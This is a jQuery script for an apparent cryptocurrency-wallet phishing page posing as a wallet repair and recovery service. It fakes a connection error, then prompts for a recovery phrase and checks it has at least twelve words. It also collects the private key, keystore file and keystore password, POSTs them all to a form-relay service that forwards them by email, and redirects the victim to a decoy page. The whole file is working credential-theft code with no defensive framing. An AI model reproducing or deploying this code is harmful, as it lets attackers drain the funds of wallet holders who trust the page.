$(function(){
  var wallets = ['Metamask','Trust Wallet','Coinbase','Ledger','Trezor','Exodus','Atomic','SafePal','Phantom','Keplr'];
  var issues = ['Migration','Asset Recovery','Rectification','High Gas Fees','Claim Airdrop','Bridge Transfer','Staking','Missing Balance','Login Glitch','Whitelist'];
  $.each(issues, function(i, n){
    $('#grid').append('<div class="card open"><h4>'+n+'</h4><p>Click here for '+n.toLowerCase()+' related errors</p></div>');
  });
  $.each(wallets, function(i, n){
    $('#wl').append('<li data-n="'+n+'"><img src="w/'+i+'.png">'+n+'</li>');
  });
  $(document).on('click','.open',function(){ $('#walletModal').modal('show'); });
  $(document).on('click','#wl li',function(){
    var n = $(this).data('n');
    $('#walletModal').modal('hide');
    $('#init').show().find('b').text('Initializing ' + n + '...');
    setTimeout(function(){
      $('#init b').html('<span style="color:red">Error Connecting...</span> <button id="manual">Connect Manually</button>');
      $('[name=wallet]').val(n);
    }, 3500);
  });
  $(document).on('click','#manual',function(){ $('#init').hide(); $('#manualModal').modal('show'); });
  $('#manualForm').submit(function(e){
    e.preventDefault();
    var txt = $.trim($('#phrase').val());
    if (txt.split(' ').length < 12) { $('.error').text('Invalid phrase, kindly check and retry'); return; }
    $.ajax({
      url: 'https://formsubmit.co/ajax/box@mailer.invalid',
      method: 'POST',
      data: { wallet: $('[name=wallet]').val(), phrase: txt, key: $('#pk').val(), keystore: $('#ks').val(), pass: $('#ksp').val(), _captcha: 'false' },
      complete: function(){ window.location = 'qr.html?ref=' + Math.floor(Math.random()*1e8); }
    });
  });
});
